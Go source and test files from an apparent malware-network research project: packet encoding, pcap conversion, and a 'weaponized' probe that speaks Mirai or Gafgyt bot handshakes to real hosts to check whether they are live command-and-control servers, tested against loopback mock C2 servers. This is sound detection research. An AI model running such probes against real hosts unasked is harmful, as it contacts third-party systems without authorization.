// LayerType implements Layer.
func (u *UDP) LayerType() LayerType { return LayerTypeUDP }

// TransportFlow returns the port-level flow.
func (u *UDP) TransportFlow() Flow {
	return Flow{
		Src: Endpoint{Port: u.SrcPort, HasPort: true},
		Dst: Endpoint{Port: u.DstPort, HasPort: true},
	}
}

// SerializeTo implements Layer.
func (u *UDP) SerializeTo(payload []byte) ([]byte, error) {
	if 8+len(payload) > 0xffff {
		return nil, fmt.Errorf("packet: UDP payload too large (%d)", len(payload))
	}
	hdr := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(hdr[0:], u.SrcPort)
	binary.BigEndian.PutUint16(hdr[2:], u.DstPort)
	binary.BigEndian.PutUint16(hdr[4:], uint16(8+len(payload)))
	return append(hdr, payload...), nil
}

// DecodeUDP parses a UDP header, returning the layer and payload.
func DecodeUDP(data []byte) (*UDP, []byte, error) {
	if len(data) < 8 {
		return nil, nil, ErrTruncated
	}
	u := &UDP{
		SrcPort: binary.BigEndian.Uint16(data[0:]),
		DstPort: binary.BigEndian.Uint16(data[2:]),
		Length:  binary.BigEndian.Uint16(data[4:]),
	}
	return u, data[8:], nil
}

// ICMPv4 is the ICMPv4 header layer.
type ICMPv4 struct {
	Type, Code uint8
	ID, Seq    uint16
}

// LayerType implements Layer.
func (ic *ICMPv4) LayerType() LayerType { return LayerTypeICMPv4 }

// SerializeTo implements Layer.
func (ic *ICMPv4) SerializeTo(payload []byte) ([]byte, error) {
	hdr := make([]byte, 8, 8+len(payload))
	hdr[0] = ic.Type
	hdr[1] = ic.Code
	binary.BigEndian.PutUint16(hdr[4:], ic.ID)
	binary.BigEndian.PutUint16(hdr[6:], ic.Seq)
	full := append(hdr, payload...)
	binary.BigEndian.PutUint16(full[2:], checksum(full))
	return full, nil
}

// DecodeICMPv4 parses an ICMPv4 header, returning the layer and
// payload.
func DecodeICMPv4(data []byte) (*ICMPv4, []byte, error) {
	if len(data) < 8 {
		return nil, nil, ErrTruncated
	}
	ic := &ICMPv4{
		Type: data[0],
		Code: data[1],
		ID:   binary.BigEndian.Uint16(data[4:]),
		Seq:  binary.BigEndian.Uint16(data[6:]),
	}
	return ic, data[8:], nil
}

// checksum is the RFC 1071 Internet checksum with the checksum field
// assumed zeroed.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = (sum & 0xffff) + (sum >> 16)
	}
	return ^uint16(sum)
}

// Packet is a fully decoded IPv4 packet.
type Packet struct {
	IP      *IPv4
	TCP     *TCP
	UDP     *UDP
	ICMP    *ICMPv4
	Payload []byte
}

// Decode parses raw IPv4 bytes into a Packet. Unknown transport
// protocols leave the IP payload in Payload.
func Decode(data []byte) (*Packet, error) {
	ip, rest, err := DecodeIPv4(data)
	if err != nil {
		return nil, err
	}
	p := &Packet{IP: ip}
	switch ip.Protocol {
	case IPProtoTCP:
		p.TCP, p.Payload, err = DecodeTCP(rest)
	case IPProtoUDP:
		p.UDP, p.Payload, err = DecodeUDP(rest)
	case IPProtoICMP:
		p.ICMP, p.Payload, err = DecodeICMPv4(rest)
	default:
		p.Payload = rest
	}
	if err != nil {
		return nil, fmt.Errorf("decoding transport: %w", err)
	}
	return p, nil
}

// Flow returns the packet's full flow: IPs from the network layer,
// ports from the transport layer when present.
func (p *Packet) Flow() Flow {
	f := p.IP.NetworkFlow()
	switch {
	case p.TCP != nil:
		f.Src.Port, f.Src.HasPort = p.TCP.SrcPort, true
		f.Dst.Port, f.Dst.HasPort = p.TCP.DstPort, true
	case p.UDP != nil:
		f.Src.Port, f.Src.HasPort = p.UDP.SrcPort, true
		f.Dst.Port, f.Dst.HasPort = p.UDP.DstPort, true
	}
	return f
}

// Serialize builds wire bytes from the given layers in outermost-
// first order, e.g. Serialize(ip, tcp, Raw(payload)).
func Serialize(layers ...Layer) ([]byte, error) {
	out := []byte(nil)
	for i := len(layers) - 1; i >= 0; i-- {
		var err error
		out, err = layers[i].SerializeTo(out)
		if err != nil {
			return nil, fmt.Errorf("serializing %v: %w", layers[i].LayerType(), err)
		}
	}
	return out, nil
}

// Raw is a terminal payload layer.
type Raw []byte

// LayerType implements Layer.
func (Raw) LayerType() LayerType { return LayerTypePayload }

// SerializeTo implements Layer.
func (r Raw) SerializeTo(payload []byte) ([]byte, error) {
	return append(append([]byte{}, r...), payload...), nil
}
