package packet

import (
	"bytes"
	"net/netip"
	"testing"
	"testing/quick"
)

var (
	srcIP = netip.MustParseAddr("192.0.2.1")
	dstIP = netip.MustParseAddr("198.51.100.7")
)

func TestIPv4RoundTrip(t *testing.T) {
	ip := &IPv4{TOS: 0x10, ID: 4242, TTL: 57, Protocol: IPProtoTCP, SrcIP: srcIP, DstIP: dstIP}
	payload := []byte("the payload")
	wire, err := ip.SerializeTo(payload)
	if err != nil {
		t.Fatal(err)
	}
	got, rest, err := DecodeIPv4(wire)
	if err != nil {
		t.Fatal(err)
	}
	if got.SrcIP != srcIP || got.DstIP != dstIP || got.TTL != 57 || got.ID != 4242 || got.Protocol != IPProtoTCP {
		t.Fatalf("decoded %+v", got)
	}
	if !bytes.Equal(rest, payload) {
		t.Fatalf("payload = %q", rest)
	}
}

func TestIPv4ChecksumValid(t *testing.T) {
	ip := &IPv4{Protocol: IPProtoUDP, SrcIP: srcIP, DstIP: dstIP}
	wire, err := ip.SerializeTo(nil)
	if err != nil {
		t.Fatal(err)
	}
	// Re-checksumming a header with a valid checksum yields zero.
	if got := checksum(wire[:20]); got != 0 {
		t.Fatalf("checksum over valid header = %#x, want 0", got)
	}
}

func TestDecodeIPv4Truncated(t *testing.T) {
	if _, _, err := DecodeIPv4(make([]byte, 10)); err != ErrTruncated {
		t.Fatalf("err = %v, want ErrTruncated", err)
	}
}

func TestDecodeIPv4WrongVersion(t *testing.T) {
	b := make([]byte, 20)
	b[0] = 0x65 // version 6
	if _, _, err := DecodeIPv4(b); err != ErrBadVersion {
		t.Fatalf("err = %v, want ErrBadVersion", err)
	}
}

func TestTCPRoundTrip(t *testing.T) {
	tc := &TCP{SrcPort: 48000, DstPort: 23, Seq: 1000, Ack: 2000, SYN: true, ACK: true, Window: 29200}
	wire, err := tc.SerializeTo([]byte("abc"))
	if err != nil {
		t.Fatal(err)
	}
	got, rest, err := DecodeTCP(wire)
	if err != nil {
		t.Fatal(err)
	}
	if got.SrcPort != 48000 || got.DstPort != 23 || !got.SYN || !got.ACK || got.FIN || got.RST {
		t.Fatalf("decoded %+v", got)
	}
	if got.Seq != 1000 || got.Ack != 2000 || got.Window != 29200 {
		t.Fatalf("decoded %+v", got)
	}
	if string(rest) != "abc" {
		t.Fatalf("payload = %q", rest)
	}
}

func TestTCPAllFlagsRoundTrip(t *testing.T) {
	tc := &TCP{FIN: true, SYN: true, RST: true, PSH: true, ACK: true, URG: true}
	wire, _ := tc.SerializeTo(nil)
	got, _, err := DecodeTCP(wire)
	if err != nil {
		t.Fatal(err)
	}
	if !(got.FIN && got.SYN && got.RST && got.PSH && got.ACK && got.URG) {
		t.Fatalf("flags lost: %+v", got)
	}
}

func TestUDPRoundTrip(t *testing.T) {
	u := &UDP{SrcPort: 5353, DstPort: 53}
	wire, err := u.SerializeTo([]byte("query"))
	if err != nil {
		t.Fatal(err)
	}
	got, rest, err := DecodeUDP(wire)
	if err != nil {
		t.Fatal(err)
	}
	if got.SrcPort != 5353 || got.DstPort != 53 || got.Length != 13 {
		t.Fatalf("decoded %+v", got)
	}
	if string(rest) != "query" {
		t.Fatalf("payload = %q", rest)
	}
}

func TestICMPRoundTrip(t *testing.T) {
	ic := &ICMPv4{Type: 3, Code: 3, ID: 77, Seq: 8}
	wire, err := ic.SerializeTo([]byte("orig"))
	if err != nil {
		t.Fatal(err)
	}
	got, rest, err := DecodeICMPv4(wire)
	if err != nil {
		t.Fatal(err)
	}
	if got.Type != 3 || got.Code != 3 || got.ID != 77 || got.Seq != 8 {
		t.Fatalf("decoded %+v", got)
	}
	if string(rest) != "orig" {
		t.Fatalf("payload = %q", rest)
	}
}

func TestFullPacketDecodeTCP(t *testing.T) {
	wire, err := Serialize(
		&IPv4{Protocol: IPProtoTCP, SrcIP: srcIP, DstIP: dstIP},
		&TCP{SrcPort: 1024, DstPort: 80, PSH: true, ACK: true},
		Raw("GET / HTTP/1.0\r\n\r\n"),
	)
	if err != nil {
		t.Fatal(err)
	}
	p, err := Decode(wire)
	if err != nil {
		t.Fatal(err)
	}
	if p.TCP == nil || p.UDP != nil || p.ICMP != nil {
		t.Fatalf("layers: %+v", p)
	}
	if string(p.Payload) != "GET / HTTP/1.0\r\n\r\n" {
		t.Fatalf("payload = %q", p.Payload)
	}
	f := p.Flow()
	if f.Src.IP != srcIP || f.Src.Port != 1024 || f.Dst.IP != dstIP || f.Dst.Port != 80 {
		t.Fatalf("flow = %v", f)
	}
}

func TestFullPacketDecodeUDPAndICMP(t *testing.T) {
	for _, tc := range []struct {
		name  string
		inner Layer
		check func(p *Packet) bool
	}{
		{"udp", &UDP{SrcPort: 9, DstPort: 9}, func(p *Packet) bool { return p.UDP != nil }},
		{"icmp", &ICMPv4{Type: 8}, func(p *Packet) bool { return p.ICMP != nil }},
	} {
		proto := uint8(IPProtoUDP)
		if tc.name == "icmp" {
			proto = IPProtoICMP
		}
		wire, err := Serialize(&IPv4{Protocol: proto, SrcIP: srcIP, DstIP: dstIP}, tc.inner)
		if err != nil {
			t.Fatal(err)
		}
		p, err := Decode(wire)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if !tc.check(p) {
			t.Fatalf("%s: wrong layers %+v", tc.name, p)
		}
	}
}

func TestFlowCanonicalSymmetric(t *testing.T) {
	f := Flow{
		Src: Endpoint{IP: dstIP, Port: 80, HasPort: true},
		Dst: Endpoint{IP: srcIP, Port: 1024, HasPort: true},
	}
	if f.Canonical() != f.Reverse().Canonical() {
		t.Fatal("canonical flow differs across directions")
	}
}

func TestFlowUsableAsMapKey(t *testing.T) {
	m := map[Flow]int{}
	f := Flow{Src: Endpoint{IP: srcIP, Port: 1, HasPort: true}, Dst: Endpoint{IP: dstIP, Port: 2, HasPort: true}}
	m[f]++
	m[f]++
	if m[f] != 2 {
		t.Fatalf("map[f] = %d", m[f])
	}
}

func TestQuickTCPRoundTripPorts(t *testing.T) {
	f := func(sp, dp uint16, seq, ack uint32, payload []byte) bool {
		tc := &TCP{SrcPort: sp, DstPort: dp, Seq: seq, Ack: ack, PSH: true}
		wire, err := tc.SerializeTo(payload)
		if err != nil {
			return false
		}
		got, rest, err := DecodeTCP(wire)
		if err != nil {
			return false
		}
		return got.SrcPort == sp && got.DstPort == dp && got.Seq == seq &&
			got.Ack == ack && bytes.Equal(rest, payload)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestQuickIPv4RoundTripAddrs(t *testing.T) {
	f := func(a, b [4]byte, id uint16, payload []byte) bool {
		if len(payload) > 60000 {
			payload = payload[:60000]
		}
		ip := &IPv4{ID: id, Protocol: IPProtoTCP, SrcIP: netip.AddrFrom4(a), DstIP: netip.AddrFrom4(b)}
		wire, err := ip.SerializeTo(payload)
		if err != nil {
			return false
		}
		got, rest, err := DecodeIPv4(wire)
		if err != nil {
			return false
		}
		return got.SrcIP == netip.AddrFrom4(a) && got.DstIP == netip.AddrFrom4(b) &&
			got.ID == id && bytes.Equal(rest, payload)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
