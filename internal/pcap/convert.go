package pcap

import (
	"fmt"
	"time"

	"malnet/internal/packet"
	"malnet/internal/simnet"
)

// FrameFromRecord renders a simnet packet record as a raw-IPv4 frame
// suitable for a LINKTYPE_RAW capture, with a valid transport
// checksum. Burst records are rendered as a single representative
// frame (callers expand Count themselves if they need one frame per
// packet).
func FrameFromRecord(rec simnet.PacketRecord) ([]byte, error) {
	ip := &packet.IPv4{SrcIP: rec.Src.IP, DstIP: rec.Dst.IP}
	switch rec.Proto {
	case simnet.ProtoTCP:
		ip.Protocol = packet.IPProtoTCP
		t := &packet.TCP{
			SrcPort: rec.Src.Port, DstPort: rec.Dst.Port,
			SYN: rec.Flags&simnet.FlagSYN != 0,
			ACK: rec.Flags&simnet.FlagACK != 0,
			FIN: rec.Flags&simnet.FlagFIN != 0,
			RST: rec.Flags&simnet.FlagRST != 0,
			PSH: rec.Flags&simnet.FlagPSH != 0,
		}
		return withChecksum(packet.Serialize(ip, t, packet.Raw(rec.Payload)))
	case simnet.ProtoUDP:
		ip.Protocol = packet.IPProtoUDP
		u := &packet.UDP{SrcPort: rec.Src.Port, DstPort: rec.Dst.Port}
		return withChecksum(packet.Serialize(ip, u, packet.Raw(rec.Payload)))
	case simnet.ProtoICMP:
		ip.Protocol = packet.IPProtoICMP
		ic := &packet.ICMPv4{Type: rec.ICMPTyp, Code: rec.ICMPCod}
		return packet.Serialize(ip, ic, packet.Raw(rec.Payload))
	}
	return nil, fmt.Errorf("pcap: unknown protocol %v", rec.Proto)
}

// withChecksum fills the transport checksum of a freshly serialized
// frame.
func withChecksum(frame []byte, err error) ([]byte, error) {
	if err != nil {
		return nil, err
	}
	if err := packet.FillTransportChecksum(frame); err != nil {
		return nil, err
	}
	return frame, nil
}

// WriteRecords converts simnet records to frames and writes them. A
// burst record (Count > 1) is written as up to maxPerBurst frames
// with timestamps spread across its span, preserving the burst's
// rate signature in the file without materializing every packet of a
// flood; 0 means 1.
func (pw *Writer) WriteRecords(recs []simnet.PacketRecord, maxPerBurst int) error {
	if maxPerBurst <= 0 {
		maxPerBurst = 1
	}
	for _, rec := range recs {
		frame, err := FrameFromRecord(rec)
		if err != nil {
			return err
		}
		n := rec.Count
		if n > maxPerBurst {
			n = maxPerBurst
		}
		for i := 0; i < n; i++ {
			ts := rec.Time
			if n > 1 && rec.Span > 0 {
				ts = ts.Add(rec.Span * time.Duration(i) / time.Duration(n))
			}
			if err := pw.WriteRecord(Record{Time: ts, Data: frame, OrigLen: rec.Size}); err != nil {
				return err
			}
		}
	}
	return pw.Flush()
}
