package pcap

import (
	"bytes"
	"io"
	"net/netip"
	"testing"
	"time"

	"malnet/internal/packet"
	"malnet/internal/simnet"
)

var ts = time.Date(2021, 6, 1, 12, 0, 0, 123456000, time.UTC)

func TestWriteReadRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	frames := [][]byte{[]byte("frame-one"), []byte("frame-two-longer")}
	for i, f := range frames {
		err := w.WriteRecord(Record{Time: ts.Add(time.Duration(i) * time.Second), Data: f, OrigLen: len(f)})
		if err != nil {
			t.Fatal(err)
		}
	}
	r, err := NewReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if r.Link != LinkTypeRaw {
		t.Fatalf("link type = %d", r.Link)
	}
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 {
		t.Fatalf("records = %d", len(got))
	}
	for i := range frames {
		if !bytes.Equal(got[i].Data, frames[i]) {
			t.Fatalf("record %d data = %q", i, got[i].Data)
		}
	}
	if !got[0].Time.Equal(ts) {
		t.Fatalf("time = %v, want %v", got[0].Time, ts)
	}
}

func TestEmptyCaptureHasValidHeader(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r, err := NewReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); err != io.EOF {
		t.Fatalf("Next on empty capture = %v, want EOF", err)
	}
}

func TestBadMagicRejected(t *testing.T) {
	data := make([]byte, 24)
	if _, err := NewReader(bytes.NewReader(data)); err != ErrBadMagic {
		t.Fatalf("err = %v, want ErrBadMagic", err)
	}
}

func TestTruncatedHeaderRejected(t *testing.T) {
	if _, err := NewReader(bytes.NewReader([]byte{1, 2, 3})); err == nil {
		t.Fatal("truncated header accepted")
	}
}

func TestTruncatedRecordRejected(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	w.WriteRecord(Record{Time: ts, Data: []byte("abcdef")})
	raw := buf.Bytes()
	r, err := NewReader(bytes.NewReader(raw[:len(raw)-3]))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); err == nil {
		t.Fatal("truncated record accepted")
	}
}

func TestFrameFromRecordTCPDecodes(t *testing.T) {
	rec := simnet.PacketRecord{
		Src: simnet.AddrFrom("10.0.0.1", 48000), Dst: simnet.AddrFrom("10.0.0.2", 23),
		Proto: simnet.ProtoTCP, Flags: simnet.FlagPSH | simnet.FlagACK,
		Payload: []byte("login"), Size: 45, Count: 1,
	}
	frame, err := FrameFromRecord(rec)
	if err != nil {
		t.Fatal(err)
	}
	p, err := packet.Decode(frame)
	if err != nil {
		t.Fatal(err)
	}
	if p.TCP == nil || p.TCP.SrcPort != 48000 || p.TCP.DstPort != 23 || !p.TCP.PSH {
		t.Fatalf("tcp = %+v", p.TCP)
	}
	if string(p.Payload) != "login" {
		t.Fatalf("payload = %q", p.Payload)
	}
	if p.IP.SrcIP != netip.MustParseAddr("10.0.0.1") {
		t.Fatalf("src = %v", p.IP.SrcIP)
	}
}

func TestFrameFromRecordICMP(t *testing.T) {
	rec := simnet.PacketRecord{
		Src: simnet.AddrFrom("10.0.0.1", 0), Dst: simnet.AddrFrom("10.0.0.2", 0),
		Proto: simnet.ProtoICMP, ICMPTyp: 3, ICMPCod: 3, Size: 56, Count: 1,
	}
	frame, err := FrameFromRecord(rec)
	if err != nil {
		t.Fatal(err)
	}
	p, err := packet.Decode(frame)
	if err != nil {
		t.Fatal(err)
	}
	if p.ICMP == nil || p.ICMP.Type != 3 || p.ICMP.Code != 3 {
		t.Fatalf("icmp = %+v", p.ICMP)
	}
}

func TestWriteRecordsExpandsBurstsUpToCap(t *testing.T) {
	recs := []simnet.PacketRecord{{
		Time: ts, Span: time.Second,
		Src: simnet.AddrFrom("10.0.0.1", 4444), Dst: simnet.AddrFrom("10.0.0.2", 80),
		Proto: simnet.ProtoUDP, Payload: []byte{0}, Size: 29, Count: 100000,
	}}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.WriteRecords(recs, 8); err != nil {
		t.Fatal(err)
	}
	r, _ := NewReader(&buf)
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 8 {
		t.Fatalf("frames = %d, want 8", len(got))
	}
	if !got[7].Time.After(got[0].Time) {
		t.Fatal("burst timestamps not spread")
	}
}

func TestFramesCarryValidChecksums(t *testing.T) {
	recs := []simnet.PacketRecord{
		{Src: simnet.AddrFrom("10.0.0.1", 4000), Dst: simnet.AddrFrom("10.0.0.2", 80),
			Proto: simnet.ProtoTCP, Flags: simnet.FlagPSH | simnet.FlagACK,
			Payload: []byte("GET / HTTP/1.0\r\n\r\n"), Size: 58, Count: 1},
		{Src: simnet.AddrFrom("10.0.0.1", 5353), Dst: simnet.AddrFrom("10.0.0.2", 53),
			Proto: simnet.ProtoUDP, Payload: []byte("query"), Size: 33, Count: 1},
	}
	for _, rec := range recs {
		frame, err := FrameFromRecord(rec)
		if err != nil {
			t.Fatal(err)
		}
		ok, err := packet.ValidTransportChecksum(frame)
		if !ok {
			t.Fatalf("%v frame checksum invalid: %v", rec.Proto, err)
		}
	}
}
