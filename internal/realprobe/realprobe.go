// Package realprobe runs the weaponized C2 probe over real TCP —
// the deployment form of §2.1's second mode. It shares its protocol
// handshakes and engagement classification with the simulated study
// (internal/c2's probe helpers), so behavior validated against the
// virtual network carries over to actual sockets.
//
// Intended use is defensive and lab-scoped, exactly as in the paper:
// confirming whether a suspected endpoint from a malware profile is
// a live C2 server.
package realprobe

import (
	"context"
	"fmt"
	"net"
	"time"

	"malnet/internal/c2"
)

// Verdict classifies one probe.
type Verdict uint8

// Probe verdicts, mirroring the simulated study's outcomes.
const (
	// VerdictNoAnswer: connection refused or timed out.
	VerdictNoAnswer Verdict = iota
	// VerdictAcceptedSilent: TCP accepted, no protocol engagement.
	VerdictAcceptedSilent
	// VerdictBanner: a well-known benign service answered.
	VerdictBanner
	// VerdictEngaged: the peer spoke the C2 protocol back.
	VerdictEngaged
)

// String names the verdict.
func (v Verdict) String() string {
	switch v {
	case VerdictAcceptedSilent:
		return "accepted-silent"
	case VerdictBanner:
		return "banner"
	case VerdictEngaged:
		return "engaged"
	}
	return "no-answer"
}

// Result is one probe's outcome.
type Result struct {
	Target  string
	Family  string
	Verdict Verdict
	// Banner holds the first bytes for banner verdicts.
	Banner string
	// RTT is the time to connect.
	RTT time.Duration
	// Err carries the dial error for no-answer verdicts.
	Err error
}

// Prober probes endpoints with a weaponized family handshake.
type Prober struct {
	// Family selects the protocol (mirai, gafgyt, daddyl33t,
	// tsunami).
	Family string
	// DialTimeout bounds connection establishment (default 5 s).
	DialTimeout time.Duration
	// EngageTimeout bounds the wait for protocol engagement after
	// connecting (default 90 s, the study's window).
	EngageTimeout time.Duration
	// Dialer allows tests to interpose; nil uses net.Dialer.
	Dialer interface {
		DialContext(ctx context.Context, network, addr string) (net.Conn, error)
	}
}

// Probe dials target ("host:port"), performs the weaponized
// handshake, and classifies the response.
func (p *Prober) Probe(ctx context.Context, target string) Result {
	family := p.Family
	if family == "" {
		family = c2.FamilyMirai
	}
	dialTimeout := p.DialTimeout
	if dialTimeout <= 0 {
		dialTimeout = 5 * time.Second
	}
	engageTimeout := p.EngageTimeout
	if engageTimeout <= 0 {
		engageTimeout = 90 * time.Second
	}
	res := Result{Target: target, Family: family}

	dialer := p.Dialer
	if dialer == nil {
		dialer = &net.Dialer{Timeout: dialTimeout}
	}
	dctx, cancel := context.WithTimeout(ctx, dialTimeout)
	defer cancel()
	start := time.Now()
	conn, err := dialer.DialContext(dctx, "tcp", target)
	if err != nil {
		res.Err = err
		return res
	}
	defer conn.Close()
	res.RTT = time.Since(start)
	res.Verdict = VerdictAcceptedSilent

	// Greeting pre-read: banner services (SSH, SMTP, some HTTP
	// error paths) speak first and often close on unexpected
	// input; writing before reading would RST away their banner.
	pre := make([]byte, 512)
	if err := conn.SetReadDeadline(time.Now().Add(150 * time.Millisecond)); err == nil {
		if n, _ := conn.Read(pre); n > 0 {
			if c2.WellKnownBanner(pre[:n]) {
				res.Verdict = VerdictBanner
				res.Banner = string(pre[:min(n, 60)])
				return res
			}
			if c2.ProbeEngaged(family, pre[:n]) {
				res.Verdict = VerdictEngaged
				return res
			}
		}
	}

	for _, msg := range c2.ProbeHandshake(family) {
		if _, err := conn.Write(msg); err != nil {
			res.Err = fmt.Errorf("realprobe: write: %w", err)
			if c2.AliveOnReset(err) && res.Verdict < VerdictAcceptedSilent {
				res.Verdict = VerdictAcceptedSilent
			}
			return res
		}
	}

	deadline := time.Now().Add(engageTimeout)
	if d, ok := ctx.Deadline(); ok && d.Before(deadline) {
		deadline = d
	}
	buf := make([]byte, 4096)
	var acc []byte
	for {
		if err := conn.SetReadDeadline(deadline); err != nil {
			return res
		}
		n, err := conn.Read(buf)
		if n > 0 {
			acc = append(acc, buf[:n]...)
			if c2.WellKnownBanner(acc) {
				res.Verdict = VerdictBanner
				res.Banner = string(acc[:min(len(acc), 60)])
				return res
			}
			if c2.ProbeEngaged(family, acc) {
				res.Verdict = VerdictEngaged
				return res
			}
		}
		if err != nil {
			// A reset here is "alive but rude": the peer completed a
			// handshake and then slammed the door, which still proves a
			// live host. Timeouts and clean closes keep the strongest
			// verdict observed so far.
			if c2.AliveOnReset(err) && res.Verdict < VerdictAcceptedSilent {
				res.Verdict = VerdictAcceptedSilent
			}
			return res
		}
		if len(acc) > 1<<16 {
			return res // runaway peer; classify on what we have
		}
	}
}

// ProbeAll sweeps a target list sequentially (deterministic, gentle
// — the study's ethics posture), returning one result per target.
func (p *Prober) ProbeAll(ctx context.Context, targets []string) []Result {
	out := make([]Result, 0, len(targets))
	for _, t := range targets {
		out = append(out, p.Probe(ctx, t))
		if ctx.Err() != nil {
			break
		}
	}
	return out
}
