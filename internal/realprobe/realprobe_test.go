package realprobe

import (
	"bufio"
	"bytes"
	"context"
	"net"
	"strings"
	"testing"
	"time"

	"malnet/internal/c2"
)

// serve starts a real loopback TCP listener whose connections are
// handled by handler; it returns the address and a cleanup func.
func serve(t *testing.T, handler func(net.Conn)) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go handler(conn)
		}
	}()
	return ln.Addr().String()
}

func TestProbeEngagesRealMiraiStyleC2(t *testing.T) {
	// A minimal real-socket Mirai C2: reads the 4-byte handshake,
	// echoes 2-byte pings.
	addr := serve(t, func(conn net.Conn) {
		defer conn.Close()
		buf := make([]byte, 16)
		var got []byte
		for {
			n, err := conn.Read(buf)
			if err != nil {
				return
			}
			got = append(got, buf[:n]...)
			for len(got) >= 4 && bytes.Equal(got[:4], c2.MiraiHandshake) {
				got = got[4:]
			}
			for len(got) >= 2 && got[0] == 0 && got[1] == 0 {
				conn.Write(c2.MiraiPing)
				got = got[2:]
			}
		}
	})
	p := &Prober{Family: c2.FamilyMirai, EngageTimeout: 3 * time.Second}
	res := p.Probe(context.Background(), addr)
	if res.Verdict != VerdictEngaged {
		t.Fatalf("verdict = %v (err %v), want engaged", res.Verdict, res.Err)
	}
	if res.RTT <= 0 {
		t.Fatal("no RTT measured")
	}
}

func TestProbeEngagesRealGafgytStyleC2(t *testing.T) {
	addr := serve(t, func(conn net.Conn) {
		defer conn.Close()
		r := bufio.NewReader(conn)
		if _, err := r.ReadString('\n'); err != nil {
			return
		}
		conn.Write([]byte("PING\n"))
		r.ReadString('\n') // PONG, ignored
	})
	p := &Prober{Family: c2.FamilyGafgyt, EngageTimeout: 3 * time.Second}
	res := p.Probe(context.Background(), addr)
	if res.Verdict != VerdictEngaged {
		t.Fatalf("verdict = %v, want engaged", res.Verdict)
	}
}

func TestProbeClassifiesBanner(t *testing.T) {
	addr := serve(t, func(conn net.Conn) {
		conn.Write([]byte("HTTP/1.1 400 Bad Request\r\nServer: nginx\r\n\r\n"))
		conn.Close()
	})
	p := &Prober{Family: c2.FamilyMirai, EngageTimeout: 3 * time.Second}
	res := p.Probe(context.Background(), addr)
	if res.Verdict != VerdictBanner {
		t.Fatalf("verdict = %v, want banner", res.Verdict)
	}
	if !strings.Contains(res.Banner, "HTTP/1.1") {
		t.Fatalf("banner = %q", res.Banner)
	}
}

func TestProbeSilentAcceptor(t *testing.T) {
	addr := serve(t, func(conn net.Conn) {
		time.Sleep(200 * time.Millisecond)
		conn.Close()
	})
	p := &Prober{Family: c2.FamilyMirai, EngageTimeout: time.Second}
	res := p.Probe(context.Background(), addr)
	if res.Verdict != VerdictAcceptedSilent {
		t.Fatalf("verdict = %v, want accepted-silent", res.Verdict)
	}
}

func TestProbeNoAnswer(t *testing.T) {
	// A port with nothing listening: grab one, close it.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	p := &Prober{Family: c2.FamilyMirai, DialTimeout: time.Second}
	res := p.Probe(context.Background(), addr)
	if res.Verdict != VerdictNoAnswer || res.Err == nil {
		t.Fatalf("verdict = %v err = %v, want no-answer with error", res.Verdict, res.Err)
	}
}

func TestProbeContextCancellation(t *testing.T) {
	addr := serve(t, func(conn net.Conn) {
		time.Sleep(5 * time.Second)
		conn.Close()
	})
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	p := &Prober{Family: c2.FamilyMirai, EngageTimeout: 30 * time.Second}
	start := time.Now()
	res := p.Probe(ctx, addr)
	if elapsed := time.Since(start); elapsed > 3*time.Second {
		t.Fatalf("probe ignored context deadline (%v)", elapsed)
	}
	if res.Verdict == VerdictEngaged {
		t.Fatal("silent peer classified engaged")
	}
}

func TestProbeAllSequential(t *testing.T) {
	engagedAddr := serve(t, func(conn net.Conn) {
		defer conn.Close()
		buf := make([]byte, 16)
		conn.Read(buf)
		conn.Write(c2.MiraiPing)
		conn.Read(buf)
	})
	bannerAddr := serve(t, func(conn net.Conn) {
		conn.Write([]byte("SSH-2.0-OpenSSH_8.9\r\n"))
		conn.Close()
	})
	p := &Prober{Family: c2.FamilyMirai, EngageTimeout: 2 * time.Second}
	results := p.ProbeAll(context.Background(), []string{engagedAddr, bannerAddr})
	if len(results) != 2 {
		t.Fatalf("results = %d", len(results))
	}
	if results[0].Verdict != VerdictEngaged || results[1].Verdict != VerdictBanner {
		t.Fatalf("verdicts = %v, %v", results[0].Verdict, results[1].Verdict)
	}
}
