package report_test

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"malnet/internal/core"
	"malnet/internal/obs"
	"malnet/internal/results"
	"malnet/internal/world"
)

var update = flag.Bool("update", false, "rewrite golden files")

// TestGoldenFaultedStudy renders the report-layer output of a small,
// fully faulted study and compares it byte-for-byte against the
// committed golden file. The run is deterministic end to end (world
// seed, fault seed, virtual clock), so any diff is a real behavior
// change — rerun with -update to accept one deliberately:
//
//	go test ./internal/report/ -run TestGoldenFaultedStudy -update
func TestGoldenFaultedStudy(t *testing.T) {
	wcfg := world.DefaultConfig(7)
	wcfg.TotalSamples = 60
	scfg := core.DefaultStudyConfig(7)
	scfg.Analysis.ProbeRounds = 2
	scfg.Determinism.Workers = 2
	scfg.Determinism.Faults = true
	scfg.Determinism.FaultSeed = 1007
	st := core.RunStudy(world.Generate(wcfg), scfg)

	var b strings.Builder
	b.WriteString(results.NewTable1(st).Render())
	b.WriteString("\n")
	b.WriteString(results.NewFaultSummary(st).Render())
